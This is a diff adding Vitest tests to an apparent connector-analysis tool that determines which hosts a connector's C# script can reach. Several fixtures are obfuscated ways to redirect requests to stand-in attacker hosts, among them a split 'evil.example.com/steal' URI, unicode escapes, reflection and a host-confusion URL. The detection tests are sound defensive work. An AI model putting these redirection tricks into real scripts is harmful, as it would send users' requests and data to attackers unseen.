@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import { expect, test } from 'vitest';
 import { type Connector, readConnector } from '../../src/connector/connector.ts';
 import type { JsonObject } from '../../src/connector/json-value.ts';
@@ -229,4 +230,81 @@ test('an independent publisher needs the bound account, and never looks like the
 test('a connector without any readable file is not proved, and nothing breaks', () => {
   const empty = readConnector({ path: 'x', name: 'x', program: 'certified', entries: [], truncated: false });
   expect(ownershipOf(empty, [fabrikam], now)).toMatchObject({ level: 'not-proved', hosts: [] });
+});
+
+const region = (count: number, name = 'region'): JsonObject => ({
+  [name]: {
+    type: 'string',
+    uiDefinition: { constraints: { allowedValues: Array.from({ length: count }, (_, n) => ({ text: `R${n}`, value: `r${n}` })) } },
+  },
+});
+
+test('an address with more combinations than can be followed up can be any, and costs nothing', () => {
+  const many = `https://${"@connectionParameters('region')".repeat(9)}fabrikam.com`;
+  const started = performance.now();
+  expect(hostsOf(dynamic(many, region(8)))).toEqual(['*.']);
+  expect(hostsOf(dynamic(`https://${"@connectionParameters('region')".repeat(2)}.fabrikam.com`, region(7)))).toHaveLength(49);
+  expect(hostsOf(dynamic("https://@connectionParameters('region').fabrikam.com", region(65)))).toEqual(['*.fabrikam.com']);
+  expect(performance.now() - started).toBeLessThan(1000);
+});
+
+test('as many combinations as are followed up are each named; a value that cannot be followed up leaves the host open', () => {
+  const template = "https://@connectionParameters('region').fabrikam.com";
+  expect(hostsOf(dynamic(template, region(64)))).toHaveLength(64);
+  const odd = { region: { type: 'string', uiDefinition: { constraints: { allowedValues: [{ text: 'R', value: 'evil.net/@' }] } } } };
+  expect(hostsOf(dynamic("https://@connectionParameters('region')", odd))).toEqual(['*.']);
+});
+
+test('long addresses and long scripts are read in a time that grows with them, and a long address can be any', () => {
+  const started = performance.now();
+  expect(hostsOf(dynamic(`https://${'@{'.repeat(500_000)}`))).toEqual(['*.']);
+  expect(hostsOf(dynamic(`https://${'a'.repeat(3000)}.fabrikam.com`))).toEqual(['*.']);
+  expect(hostsOf({ script: `var a = "${'https://x.net/ '.repeat(60_000)}";` })).toEqual(['x.net']);
+  expect(hostsOf({ script: `var a = "${' '.repeat(500_000)}https://x.net/ ${'(new '.repeat(90_000)}";` })).toEqual(['x.net']);
+  for (const piece of ['RequestUri = a.Uri; ', 'new Uri(', 'new a.', ') ', '@"', 'class a : ', 'using a '])
+    reachableHosts(connector({ script: piece.repeat(Math.floor(1_000_000 / piece.length)) }));
+  expect(performance.now() - started).toBeLessThan(5000);
+});
+
+const request = 'this.Context.Request';
+test.each([
+  ['the request as it is', `return await this.Context.SendAsync(${request}, this.CancellationToken);`],
+  ['a literal', `${request}.RequestUri = new Uri("https://desk.fabrikam.com/x?y=1");`],
+  ['a literal that only its path completes', `${request}.RequestUri = new System.Uri($"https://desk.fabrikam.com/{id}");`],
+  ['another path of the same host', `var b = new UriBuilder(${request}.RequestUri);\nb.Path = x + "/y"; ${request}.RequestUri = b.Uri;`],
+  ['another request to the same address', `var m = new HttpRequestMessage(HttpMethod.Get, ${request}.RequestUri);`],
+  ['a comparison', `if (${request}.RequestUri == x || Host == y) { return; }`],
+  ['a comment', `// ${request}.RequestUri = new Uri("https://" + x);`],
+])('a script with plain addresses reaches those alone: %s', (_, script) => {
+  expect(hostsOf({ script })).toEqual([]);
+  expect(reachableHosts(connector({ script })).filter(({ isOpen }) => isOpen)).toEqual([]);
+});
+
+test.each([
+  ['joined', `${request}.RequestUri = new Uri("ht" + "tps://evil.example.com/steal");`],
+  ['joined behind a whole one', `${request}.RequestUri = new Uri("https://desk.fabrikam.com" + x);`],
+  ['verbatim', `${request}.RequestUri = new Uri(@"https://evil.net");`],
+  ['verbatim elsewhere', 'var a = @"https://evil.net";'],
+  ['escaped', `${request}.RequestUri = new Uri("\\u0068ttps://evil.net");`],
+  ['a variable', `${request}.RequestUri = target;`],
+  ['a choice', `${request}.RequestUri = a ? new Uri("https://desk.fabrikam.com/") : b();`],
+  ['what a known one answers', `${request}.RequestUri = new Uri("https://desk.fabrikam.com/").Other(b);`],
+  ['an initialiser', 'var m = new HttpRequestMessage { RequestUri = a, Method = b };'],
+  ['another request', 'var m = new HttpRequestMessage(HttpMethod.Get, "ht" + "tps://evil.net");'],
+  ['a builder', `var b = new UriBuilder(${request}.RequestUri); b.Host = "evil.net"; ${request}.RequestUri = b.Uri;`],
+  ['a builder that is another by then', `var b = new UriBuilder(${request}.RequestUri); b = Other(); ${request}.RequestUri = b.Uri;`],
+  ['a name that is written as numbers', `${request}.Request\\u0055ri = x;`],
+  ['a client of its own', 'await new HttpClient().GetAsync(x);'],
+  ['what ends a host elsewhere', `${request}.RequestUri = new Uri("https://desk.fabrikam.com)@evil.net/");`],
+  ['reflection', 'typeof(HttpRequestMessage).GetProperty("Request" + "Uri").SetValue(m, x);'],
+])('a script that makes an address can reach any host: %s', (_, script) => {
+  expect(hostsOf({ script })).toContain('*.');
+  const owned = ownershipOf(connector({ script }), [fabrikam], now);
+  expect([owned.level, owned.hosts.find(({ host }) => host === '*')?.answer]).toEqual(['not-proved', 'customer-hosted']);
+  expect(owned.reason).toContain('script can reach any host');
+});
+
+test('the script of the sample reaches the hosts of its publisher alone', () => {
+  const script = readFileSync(new URL('../../certified-connectors/Tailspin Flight Log/script.csx', import.meta.url), 'utf8');
+  expect(hostsOf({ script })).toEqual([]);
 });
